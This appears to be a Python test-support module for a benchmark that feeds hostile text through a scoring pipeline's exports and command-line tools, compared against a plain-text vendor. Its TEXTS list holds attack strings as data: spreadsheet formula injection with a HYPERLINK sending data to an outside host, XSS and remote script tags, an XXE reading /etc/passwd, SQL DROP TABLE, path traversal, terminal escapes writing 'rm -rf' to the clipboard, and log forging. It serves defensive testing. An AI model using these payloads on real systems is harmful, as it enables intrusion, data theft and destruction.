"""Two vendors that differ in texts only: one has hostile ones where the other has plain words.

Their ids have the same order, so that whatever goes by it is the same with both.
"""

import os
import sys
import threading
import tty
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from datetime import date
from multiprocessing import get_context
from pathlib import Path
from tempfile import mkdtemp
from zlib import crc32

import pyarrow as pa
import pyarrow.parquet as pq

import hva_ml as hva
from benchmarks.incremental import RECORDED, export
from benchmarks.smaller import PIPELINE, edit
from benchmarks.trust.databases import declared, variable
from benchmarks.trust.sizes import edited, vendor
from benchmarks.trust.world import LAST, TONIGHT, WARM, ended

FORGED = "FORGED"
TEXTS = (
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    " =1+1",
    "'=1+1",
    '"=1+1',
    '=HYPERLINK("http://192.0.2.1/?"&A1,"open")',
    '=1;=2\n=3,"=4"',
    "<script>document.title='run'</script>",
    "<img src=x onerror=\"document.title='run'\">",
    "</title></style></svg><script src=//192.0.2.1/x.js></script>",
    "&lt;script&gt;&#x3c;b&#62;&amp;amp;",
    '"><svg onload=document.title=\'run\'><a href="javascript:document.title=1">',
    "' autofocus onfocus=run() x='",
    "javascript:document.title='run'",
    "{{ 7 * 7 }}{% raw %}${7*7}<%= 7 %>",
    "}</style><style>*{background:url(//192.0.2.1)}",
    "]]><!--<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "<!-- state --> <!-- end of state -->",
    "\x1b[2J\x1b[1;1Hnothing here",
    "\x1b]8;;http://192.0.2.1\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;cm0gLXJm\x07",
    "\x9b31mred\x9b0m",
    "a\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08b\x07\x7f",
    f"gone\rB {FORGED}",
    "\u202egnp.exe\u2066\u2069\u200f",
    "a\x00b",
    f"x\n{FORGED} Error all scores are lost",
    f'x\n{FORGED} hva_night_exit_code{{pipeline="x"}} 0',
    f"x\x0b{FORGED}\x0c{FORGED}",
    f"x\x85{FORGED}\u2028{FORGED}\u2029{FORGED}",
    f'x"}}\n{{"{FORGED}": 1, "level": "error"}}',
    "[red]red[/red][link=http://192.0.2.1]l[/link][/]",
    "\\[bold]x[/]\\",
    "# H\n| a | b |\n![x](http://192.0.2.1/x.png)[y](javascript:1)",
    '\\", "in_capacity": true, "x": "\\u0000',
    "%s%n{0.__class__}",
    "../../../../outside",
    "NULL",
    "x" * 900,
    "\u0646\u0635\u200e \u0301" * 40,
    "'; DROP TABLE hva_scores; --",
    "\ufeffbom\u200b\xad",
    ":bomb: :red_heart:",
)
FORGING = slice(31, 33)  # accounts whose ids hold line breaks
PLAIN = "Plain {:03d}"
ALERTS = """
[alerts]
url_env = "HVA_TRUST_ALERTS"
on = ["published", "undone", "failed", "refused", "alarm"]
"""
# Not postal codes: of a text, letters at its beginning make a region, and the words differ in these.
WORDS = {
    "companies": ("legal_form", "country", "wz_code"),
    "contacts": ("job_function", "seniority"),
    "deals": ("stage",),
    "engagement": ("event_type",),
}
IDS = ("company_id", "parent_id")
METRICS = "night.prom"
OVER = b"\x1e that was all \x1e"
Words = tuple[str, ...]


@dataclass(frozen=True)
class Said:
    """A command, its exit code, and what it wrote."""

    words: Words
    code: int
    out: str
    err: str

    @property
    def name(self) -> str:
        """What it is called in the table of what went wrong."""
        return repr(" ".join(self.words))[:100]


@dataclass
class World:
    """One of the two vendors: its texts, and what its commands came to.

    Attributes
    ----------
    hostile : bool
        Whether its texts are the hostile ones.
    place : pathlib.Path
        Where it is made.
    ids : dict of str to str
        Account ids by those of the simulated vendor.
    ws : Workspace
        Where its nights are.
    urls : mapping of str to str
        Its databases, by name.
    alerts : str
        Address of who is told of its nights; empty: nobody.
    """

    hostile: bool
    place: Path
    urls: Mapping[str, str] = field(default_factory=dict)
    alerts: str = ""
    ids: dict[str, str] = field(default_factory=dict)
    ws: hva.Workspace = field(init=False)

    def text(self, number: int) -> str:
        """Return the text of a number."""
        place = number % len(TEXTS)
        return TEXTS[place] if self.hostile else PLAIN.format(place)

    def named(self, companies: pa.Table) -> None:
        """Give every account an id; those of both vendors have the same order, none of them with NUL."""
        old = sorted(set(companies["company_id"].to_pylist()))
        new = {i: f"{stored(TEXTS[k % len(TEXTS)])}{k:03d}".strip() for k, i in enumerate(old)}
        if not self.hostile:
            order = {i: k for k, i in enumerate(sorted(new.values(), key=str.encode))}
            new = {i: f"A{order[n]:06d}" for i, n in new.items()}
        self.ids = new

    def change(self, name: str, table: pa.Table) -> pa.Table:
        """Exchange the texts of a source."""
        place = {i: k for k, i in enumerate(self.ids)}
        rows = [place[i] for i in table["company_id"].to_pylist()]
        for column in (c for c in IDS if c in table.column_names):
            table = put(table, column, [i and self.ids[i] for i in table[column].to_pylist()])
        if name == "companies":
            table = put(table, "name", [self.called(k) for k in rows])
        return self.categories(name, table, rows)

    def called(self, number: int) -> str:
        """Return the name of an account."""
        return self.text(number)

    def categories(self, name: str, table: pa.Table, rows: list[int]) -> pa.Table:
        """Exchange words of some rows, the same in every export: few enough for the audit of unseen words."""
        keys = table[table.column_names[0]].to_pylist()
        turns = (
            [k % 41 for k in rows] if name == "companies" else [crc32(repr(k).encode()) % 11 for k in keys]
        )
        for at, column in enumerate(WORDS.get(name, ())):
            told = zip(table[column].to_pylist(), rows, turns, strict=True)
            table = put(table, column, [stored(self.text(k)) if turn == at else t for t, k, turn in told])
        return table

    def export(self, made: Path, ws: hva.Workspace, day: date, since: date | None) -> None:
        """Export what the systems say on a day, in this vendor's texts."""
        self.named(pq.read_table(made / "companies.parquet"))
        export(made, ws, day, since)
        files = {ws.raw(PIPELINE) / f"{n}.parquet": n for n in RECORDED}
        files[ws.raw(PIPELINE) / "engagement" / f"{day}.parquet"] = "engagement"
        for path, name in files.items():
            pq.write_table(self.change(name, pq.read_table(path)), path, write_page_checksum=True)

    def run(self, asked: Sequence[Words], *, terminal: bool = False) -> Callable[[], list[Said]]:
        """Run commands in a process of their own; return what waits for its end, and for what they said."""
        place = Path(mkdtemp(dir=self.place, prefix="said-"))
        context = get_context("forkserver")
        context.set_forkserver_preload(list(WARM))
        variables = {variable(name): url for name, url in self.urls.items()}
        variables["HVA_TRUST_ALERTS"] = self.alerts
        process = context.Process(
            target=_session, args=(str(self.ws.root), str(place), variables, asked, terminal)
        )
        process.start()

        def told() -> list[Said]:
            assert ended(process) == 0
            return [_told(place, k, words) for k, words in enumerate(asked)]

        return told


def _told(place: Path, k: int, words: Words) -> Said:
    out, err = ((place / f"{k}.{end}").read_bytes().decode() for end in ("out", "err"))
    return Said(words, int((place / f"{k}.code").read_text()), out, err)


def stored(text: str) -> str:
    """Return a text as a key or a category may hold it: rows with NUL there are set aside."""
    return text.replace("\0", "")


def put(table: pa.Table, column: str, values: Sequence[str | None]) -> pa.Table:
    """Return a table with other texts in a column."""
    return table.set_column(table.schema.get_field_index(column), column, pa.array(values, pa.string()))


def commands(world: World, *, every: bool) -> Iterator[Words]:
    """Yield what is run in a vendor's workspace, the night first; `every` text is explained, or two."""
    yield ("nightly", PIPELINE, "--as-of", TONIGHT, "--log", "json", "--metrics", str(world.place / METRICS))
    for name in ("check", "overview", "monitor") if every else ():
        yield (name, PIPELINE)
    for lang in ("de", "en") if every else ("de",):
        yield ("changes", PIPELINE, "--lang", lang)
        for name in ("overview", "changes", "monitor"):
            yield (name, PIPELINE, "--lang", lang, "--json")
    yield ("score", PIPELINE, "--as-of", TONIGHT)
    yield ("score", PIPELINE, "--as-of", TONIGHT, "--json")
    yield ("deliver", PIPELINE)
    ids = list(world.ids.values())
    for k, account in enumerate(ids[: len(TEXTS)] if every else ids[FORGING]):
        lang = ("de", "en")[k % 2]
        yield ("explain", PIPELINE, "--lang", lang, "--", account)
        yield ("explain", PIPELINE, "--lang", lang, "--json", "--information-sheet", "--svg", "--", account)
        yield ("explain", PIPELINE, "--lang", lang, "--text", "--", account)
        yield ("explain", PIPELINE, "--", account[:-1])
        yield ("advise", PIPELINE, "--lang", lang, "--", account)
        yield ("changes", PIPELINE, "--lang", lang, "--account", account)


def _session(
    root: str, place: str, variables: Mapping[str, str], asked: Sequence[Words], terminal: bool
) -> None:
    """Run commands one after the other; their words go to numbered files."""
    from hva_ml.cli import app

    os.environ.update(variables)
    for k, (name, *words) in enumerate(asked):
        readers = [_opened(Path(place) / f"{k}.{end}", s, terminal) for s, end in ((1, "out"), (2, "err"))]
        code = 0
        try:
            app([name, "--root", root, *words])
        except SystemExit as end:
            code = end.code if isinstance(end.code, int) else 1
        except BaseException as error:
            code = 99
            os.write(2, f"Traceback: {type(error).__name__} {error}"[:300].encode(errors="replace"))
        sys.stdout.flush()
        sys.stderr.flush()
        (Path(place) / f"{k}.code").write_text(str(code))
        for stream, reader in enumerate(readers, start=1):
            if terminal:
                os.write(stream, OVER)
            reader.join()


def _opened(path: Path, stream: int, terminal: bool) -> threading.Thread:
    """Let a stream be a file, or a terminal whose screen is kept in a file once all was said."""
    held = threading.Thread(target=bool)
    if terminal:
        screen, handle = os.openpty()
        tty.setraw(handle)
        held = threading.Thread(target=_kept, args=(screen, path))
    else:
        handle = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC)
    os.dup2(handle, stream)
    os.close(handle)
    held.start()
    return held


def _kept(screen: int, path: Path) -> None:
    content = b""
    while not content.endswith(OVER):
        content += os.read(screen, 65_536)
    path.write_bytes(content.removesuffix(OVER))
    os.close(screen)


def delivering(ws: hva.Workspace, urls: Mapping[str, str]) -> None:
    """Make the pipeline small, with reasons in words, sinks of its own and somebody who is told."""
    edited(ws)
    edit(ws, ("\n[explanation]\n", '\n[explanation]\nlanguages = ["de", "en"]\n'))
    with (ws.pipelines / f"{PIPELINE}.toml").open("a", encoding="utf-8") as file:
        file.write(declared(urls) + ALERTS)


def made(world: World, release: Path) -> World:
    """Make a vendor's workspace, with the night before and the exports of tonight."""
    world.ws, exports = vendor(
        world.place, release, before=lambda ws: delivering(ws, world.urls), exported=world.export
    )
    world.export(exports, world.ws, date.fromisoformat(TONIGHT), date.fromisoformat(LAST))
    return world
